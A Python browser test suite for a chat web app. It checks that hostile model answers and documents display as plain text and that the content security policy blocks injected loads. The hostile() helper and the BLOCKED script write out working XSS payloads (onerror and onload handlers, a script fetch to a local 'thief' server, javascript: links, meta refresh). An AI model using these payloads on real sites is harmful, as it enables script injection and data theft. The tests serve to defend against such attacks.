"""Hostile answers and documents on the page, in a real browser: nothing is fetched, run or linked away."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from tests.fakes.talk_server import HeldGenerator, TalkServer, answered, ask, label_of, press

if TYPE_CHECKING:
    from tests.fakes.browser import Page

pytest_plugins = ["tests.fakes.browser", "tests.fakes.talk_browser"]
pytestmark = pytest.mark.browser
# Every address that an element of the page points at, resolved.
ADDRESSES = """
return [...document.querySelectorAll("*")].flatMap((one) => ["href", "src", "action", "data", "poster"]
  .filter((name) => one.hasAttribute(name))
  .map((name) => new URL(one.getAttribute(name), document.baseURI).href))
"""
BLOCKED = """
const [url, done] = arguments;
const kinds = [];
document.addEventListener("securitypolicyviolation", (event) => kinds.push(event.effectiveDirective));
const put = (tag, name) => document.body.append(Object.assign(document.createElement(tag), { [name]: url }));
put("img", "src"); put("iframe", "src"); put("script", "src"); put("video", "src");
const sheet = document.createElement("link");
Object.assign(sheet, { rel: "stylesheet", href: url });
document.head.append(sheet);
fetch(url).catch(() => {});
navigator.sendBeacon(url, "x");
setTimeout(() => done(kinds), 500);
"""


class Thief:
    """A server of somebody else that counts who comes by."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                return

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def thief() -> Iterator[Thief]:
    made = Thief()
    yield made
    made.close()


def hostile(url: str) -> str:
    return " ".join(
        (
            f"![x]({url}/markdown) [click]({url}/link) <img src='{url}/img' onerror='document.title=1'>",
            f"<script>fetch('{url}/script')</script> <a href='javascript:document.title=2'>a</a>",
            f"<iframe src='{url}/frame'></iframe> <style>@import '{url}/style';</style>",
            f"<svg onload=document.title=3> <meta http-equiv=refresh content='0;url={url}/meta'> {url}/bare",
        )
    )


def harmless(page: Page, thief: Thief) -> None:
    """Nothing of the page is loaded from or linked to another place, and nothing has run."""
    page_url = page.server.url
    foreign = [one for one in page.js(ADDRESSES) if not one.startswith(page_url)]  # type: ignore[attr-defined]
    assert foreign == []
    assert (
        page.js("return document.querySelectorAll('main :is(img, iframe, script, style, meta)').length") == 0
    )
    assert page.driver.title not in ("1", "2", "3")
    assert page.driver.current_url.startswith(page_url)
    assert thief.asked == []


def test_a_hostile_answer_is_text_while_it_comes_and_afterwards(
    talk: Page, model: HeldGenerator, thief: Thief
) -> None:
    model.reply = lambda request: f"{hostile(thief.url)} [{label_of(request, 'Open a file')}]"
    talk.open()
    ask(talk)
    answered(talk)
    shown = talk.text("#answer")
    assert "! [x] (" in shown, "the page shows what the service has taken apart"
    assert "‹script>" in shown
    assert f"{thief.url}/bare" in shown
    harmless(talk, thief)
    talk.driver.refresh()  # the kept conversation is shown again
    talk.one("#thread .turn, #answer .provenance")
    harmless(talk, thief)


def test_a_hostile_document_is_text_in_results_quotes_and_reader(
    talk: Page, model: HeldGenerator, thief: Thief
) -> None:
    server = talk.server
    assert isinstance(server, TalkServer)
    name = f"<img src={thief.url}/name onerror=document.title=1>"
    server.harness.catalog.texts[name] = f"How to open a vault {hostile(thief.url)}"
    server.harness.catalog.texts["javascript:document.title=2"] = f"How to open a vault {hostile(thief.url)}."
    model.reply = lambda request: f"So it is [{label_of(request, 'open a vault')}]."
    talk.open()
    ask(talk, "how to open a vault")
    answered(talk)
    harmless(talk, thief)
    press(talk, "#answer .chip")
    talk.one("#reader mark.quote")
    assert "<script>" in talk.text("#reader")
    harmless(talk, thief)


def test_the_policy_stops_what_a_defect_of_the_page_would_let_in(talk: Page, thief: Thief) -> None:
    talk.open()
    talk.one("#question")
    kinds = set(talk.driver.execute_async_script(BLOCKED, f"{thief.url}/injected"))
    wanted = {"img-src", "frame-src", "script-src-elem", "media-src", "style-src-elem", "connect-src"}
    assert wanted <= kinds, kinds
    assert thief.asked == []
    talk.driver.get_log("browser")  # its complaints are what this test is about
